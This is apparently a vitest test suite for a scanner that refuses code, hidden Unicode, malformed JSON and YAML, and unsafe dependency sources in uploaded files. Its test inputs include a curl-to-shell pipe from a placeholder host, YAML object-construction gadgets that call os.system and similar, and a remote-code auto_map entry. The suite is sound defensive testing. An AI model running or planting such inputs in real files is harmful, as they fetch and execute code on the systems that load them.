import { expect, test } from 'vitest'
import { scanAll, verdictOf } from './scan-of.js'

const deep = (open: string, close: string, times: number) =>
  open.repeat(times) + close.repeat(times)

test.each([
  ['a shebang', 'run', '#!/bin/sh\necho', 'script/refused'],
  ['Python imports', 'notes', 'x = 1\nimport os\n', 'python/refused'],
  ['a Python function', 'notes', 'def load(path):\n    return path\n', 'python/refused'],
  ['Python on one line', 'notes', 'x=__import__("os").getcwd()', 'python/refused'],
  [
    'code hidden in a fence inside a string',
    'notes',
    '"""\n```\n"""\nimport os\n"""\n```\n"""',
    'python/refused',
  ],
  ['a name that Python imports', 'helper.py', 'x', 'python/refused'],
  ['a name that Python runs at start', 'a.pth', 'x', 'python/refused'],
  ['a pipe into a shell', 'notes', 'curl http://x.test/a | sh', 'shell/refused'],
  ['a template', 'notes', 'hello {{ name }}', 'template/contains-code'],
  ['a template statement', 'notes', '{% for x in y %}', 'template/contains-code'],
  ['PHP', 'notes', 'a <?php echo 1 ?>', 'template/contains-code'],
  ['Python behind a fence that nobody closes', 'notes', '```\nimport os\n', 'python/refused'],
  ['HTML', 'notes', '<!DOCTYPE html><p>', 'html/refused'],
  ['a script inside text', 'notes', 'hello <script>x</script>', 'html/refused'],
  ['a PDF of plain text', 'notes', '%PDF-1.4', 'pdf/refused'],
  ['a control character', 'notes', 'a\u001b[31mb', 'unknown/refused'],
  ['a control character far behind', 'notes', `${'a'.repeat(5000)}\u001b`, 'hostile-text/refused'],
  ['a direction character', 'notes', 'a\u202eb', 'hostile-text/refused'],
  ['invisible tags', 'notes', 'a\u{e0041}', 'hostile-text/refused'],
  ['a direction character in JSON', 'a.json', '{"a":"\u202e"}', 'hostile-text/refused'],
  ['bytes that are not UTF-8', 'notes', Buffer.from([0x61, 0xff]), 'unknown/refused'],
  ['an overlong encoding', 'notes', Buffer.from([0x61, 0xc0, 0xaf]), 'unknown/refused'],
])('%s does not pass', async (_, path, content, verdict) => {
  expect(await verdictOf(content, path)).toBe(verdict)
})

test.each([
  ['a key twice', '{"a":1,"a":2}'],
  ['a key twice once read', String.raw`{"a":1,"\u0061":2}`],
  ['two values', '{"a":1}{"a":2}'],
  ['a trailing comma', '[1,]'],
  ['a comment', '{/* */}'],
  ['NaN', '[1, NaN]'],
  ['a leading zero', '{"a": 01}'],
  ['a number without end', '{"a":1e999}'],
  ['half a character', String.raw`{"a":"\ud800"}`],
  ['a line break in a text', '{"a":"\n"}'],
  ['an unknown escape', String.raw`{"a":"\x41"}`],
  ['nesting without end', deep('[', ']', 200_000)],
  ['nesting beyond the limit', deep('{"a":[', ']}', 40)],
  ['a mark of byte order', '\uFEFF{}'],
  ['an open text', `{"a":"${'\\'.repeat(100_001)}"`],
])('JSON with %s is malformed', async (_, text) => {
  expect(await verdictOf(text, 'config.json')).toBe('json/malformed')
})

test.each([
  ['Hugging Face code', '{"auto_map":{"AutoModel":"modeling.Evil"}}', 'json/contains-code'],
  ['a chat template', '{"chat_template":"hello"}', 'json/contains-code'],
  ['a template in a value', '{"prompt":"{{ x }}"}', 'json/contains-code'],
  ['a Keras Lambda, however deep', '{"a":[{"b":{"class_name":"Lambda"}}]}', 'json/contains-code'],
  ['a notebook', '{"cells":[],"nbformat":4}', 'notebook/refused'],
])('JSON with %s does not pass', async (_, text, verdict) => {
  expect(await verdictOf(text, 'config.json')).toBe(verdict)
})

test.each([
  ['a Python object', 'a: !!python/object/apply:os.getcwd []'],
  ['any tag', 'a: !thing 1'],
  ['a standard tag', 'a: !!str 1'],
  ['an anchor', 'a: &x 1'],
  ['an alias', 'a: &x [1]\nb: *x'],
  ['aliases that grow', 'a: &a [x]\nb: &b [*a,*a]\nc: [*b,*b]'],
  ['a key twice', 'a: 1\nb: 2\na: 3'],
  ['a merge key', 'a: 1\n<<: {b: 2}'],
  ['a directive', '%YAML 1.1\n---\na: 1'],
  ['two documents', 'a: 1\n---\nb: 2'],
  ['a list for a key', '? [a]\n: 1'],
  ['nesting beyond the limit', `a: ${deep('[', ']', 40)}`],
  ['nesting without end', `a: ${deep('[', ']', 100_000)}`],
  ['more than a mebibyte', `a: ${'x'.repeat(1_048_577)}`],
  ['tabs for spaces', 'a:\n\t- b'],
  ['infinity', 'a: .inf'],
])('YAML with %s is malformed', async (_, text) => {
  expect(await verdictOf(text, 'conf.yaml')).toBe('yaml/malformed')
})

test('a megabyte of YAML keys is read in seconds', async () => {
  const keys = Array.from({ length: 90_000 }, (_, index) => `k${index}: 1`).join('\n')
  expect(await verdictOf(keys, 'conf.yaml')).toBe('yaml/inert')
}, 20_000)

test.each([
  '!!python/object/apply:os.getcwd []',
  'a: !!python/name:os.system',
  '[!!javax.script.ScriptEngineManager []]',
  '- !ruby/object:Gem::Installer\n  i: x',
])('YAML that would build an object is malformed under any name: %s', async (text) => {
  expect(await verdictOf(text, 'notes')).toBe('yaml/malformed')
})

test.each([
  ['notes', 'Hello, world.\nA second line\twith a tab.\n', 'text'],
  [
    'README.md',
    '# Model\n\n[docs](https://x.test)\n\n```python\nimport os\nos.getcwd()\n```\n',
    'text',
  ],
  ['notes', 'class,mean\n1,2\n', 'csv'],
  ['count.csv', 'count,mean\nsystem,2\n3,4\n', 'csv'],
  ['n.csv', '0.5,1.5\n-1,"a,b"\n', 'csv'],
  ['config', '{"a":[1,2.5e3,"é",null,true,{}],"__proto__":{"x":1}}', 'json'],
  ['conf.yml', 'a: 1\nb:\n  - x\n  - "y: z"\nc: {d: null}\n', 'yaml'],
  ['notes', 'Note: this is: not YAML\nbut [text\n', 'text'],
  ['notes', 'Stop!! Really! (!) \n!important\n', 'text'],
  ['notes', 'Very nice\n.. note:: text\n', 'text'],
])('%s with ordinary content is inert', async (path, text, format) => {
  expect(await verdictOf(text, path)).toBe(`${format}/inert`)
})

test.each([
  ['requirements.txt', 'numpy==2.1\n-e git+https://x.test/y\n', 2],
  ['requirements.txt', '--extra-index-url https://x.test\n', 1],
  ['requirements.txt', 'thing @ https://x.test/a.whl\n', 1],
  ['conda.yaml', 'dependencies:\n  - pip:\n    - --index-url=https://x.test\n', 3],
  ['conda.yaml', '{"dependencies": [{"pip": ["git+https://x.test/y"]}]}', 1],
])('%s that fetches from elsewhere passes with a finding', async (path, text, line) => {
  const { answer } = await scanAll({ [path]: text })
  expect(answer.outcome).toBe('passed')
  expect(answer.findings).toMatchObject([{ id: `scan/requirement-source:${path}:${line}` }])
})

test('a requirements file with names and versions only passes without a finding', async () => {
  const { answer } = await scanAll({
    'requirements.txt': '# see https://x.test\nnumpy==2.1\nonnxruntime==1.30\n',
  })
  expect(answer).toMatchObject({ outcome: 'passed', findings: [] })
})

const mebibyte = 1_048_576
test.each([
  ['line breaks', '\n'.repeat(16 * mebibyte), 'notes'],
  ['spaces', `x${' '.repeat(16 * mebibyte)}x`, 'notes'],
  ['open fences', '```x\n'.repeat(mebibyte), 'notes'],
  ['imports that never end', `import a,${' '.repeat(8 * mebibyte)}!`, 'notes'],
  ['downloads that are never piped', 'curl '.repeat(2 * mebibyte), 'notes'],
  ['calls that never open', 'eval '.repeat(2 * mebibyte), 'notes'],
  ['exclamation marks', '!!a'.repeat(4 * mebibyte), 'notes'],
  ['quotes', '"a,'.repeat(4 * mebibyte), 'notes'],
  ['backslashes in JSON', `{"a":"${'\\'.repeat(8 * mebibyte)}"}`, 'a.json'],
  ['YAML dashes', '- '.repeat(mebibyte / 2), 'a.yaml'],
  ['YAML questions', '? '.repeat(mebibyte / 2), 'a.yaml'],
  ['YAML braces', '{ '.repeat(mebibyte / 2), 'a.yaml'],
  ['YAML colons', ': '.repeat(mebibyte / 2), 'a.yaml'],
  ['YAML line breaks', '\n'.repeat(mebibyte), 'a.yaml'],
  ['YAML comments', '#\n'.repeat(mebibyte / 2), 'a.yaml'],
  ['YAML commas', `[${','.repeat(mebibyte - 2)}]`, 'a.yaml'],
  ['YAML anchors', '&a '.repeat(mebibyte / 3), 'a.yaml'],
  ['YAML blocks', 'a: |\n'.repeat(mebibyte / 5), 'a.yaml'],
])(
  'a file of nothing but %s never hangs the engine',
  async (_, text, path) => {
    expect(await verdictOf(text, path)).toMatch(/^(text|csv|yaml|json|python)\//)
  },
  60_000,
)
